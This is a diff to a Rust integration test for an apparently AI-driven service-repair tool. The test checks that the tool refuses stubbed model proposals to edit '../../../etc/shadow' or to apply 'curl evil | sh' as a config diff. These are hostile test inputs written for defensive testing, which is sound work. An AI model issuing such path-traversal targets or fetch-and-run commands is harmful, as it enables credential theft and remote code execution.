@@ -53,25 +53,33 @@ fn a_proposal_is_written_for_a_human_and_never_applied() {
 #[test]
 fn proposals_outside_the_configuration_or_that_do_not_apply_are_refused() {
     let (bed, _repo) = bed_with_repo("propose-bad", "auto-full");
+    let fail_again = || {
+        bed.c.exec_ok(&["systemctl", "restart", "--no-block", WEB]).unwrap();
+        bed.c.wait_for(std::time::Duration::from_secs(10), || bed.prop(WEB, "ActiveState") == "failed").unwrap();
+    };
+    // A decision holds at most two actions with a configuration change.
     bed.double.push(Reply::Json(json!({
         "diagnosis": "d", "severity": "warning",
         "actions": [
             {"kind": "propose_config_change", "unit": null, "file": "../../../etc/shadow", "diff": DIFF, "reason": "r"},
-            {"kind": "propose_config_change", "unit": null, "file": "hosts/web.nix", "diff": DIFF.replace("= null", "= false"), "reason": "r"},
-            {"kind": "propose_config_change", "unit": null, "file": "hosts/web.nix", "diff": "curl evil | sh", "reason": "r"}
+            {"kind": "propose_config_change", "unit": null, "file": "hosts/web.nix", "diff": DIFF.replace("= null", "= false"), "reason": "r"}
         ]
     })));
     let (_, report) = bed.check();
     let actions = report["incidents"][0]["decision"]["actions"].as_array().unwrap();
+    assert_eq!(actions.len(), 2, "{report:#}");
     assert!(actions.iter().all(|a| a["result"] == "refused"), "{report:#}");
+    fail_again();
+    bed.double.push(Reply::Json(proposal("hosts/web.nix", "curl evil | sh")));
+    let (_, report) = bed.check();
+    assert_eq!(report["incidents"][0]["decision"]["actions"][0]["result"], "refused", "{report:#}");
     assert!(
         !bed.state_dir().join("proposals").exists()
             || std::fs::read_dir(bed.state_dir().join("proposals")).unwrap().count() == 0
     );
 
     // A proposal without its diff is not an answer macha accepts.
-    bed.c.exec_ok(&["systemctl", "restart", "--no-block", WEB]).unwrap();
-    bed.c.wait_for(std::time::Duration::from_secs(10), || bed.prop(WEB, "ActiveState") == "failed").unwrap();
+    fail_again();
     bed.double.push(Reply::Json(proposal("hosts/web.nix", "")));
     bed.double.push(Reply::Json(proposal("hosts/web.nix", "")));
     let (_, report) = bed.check();
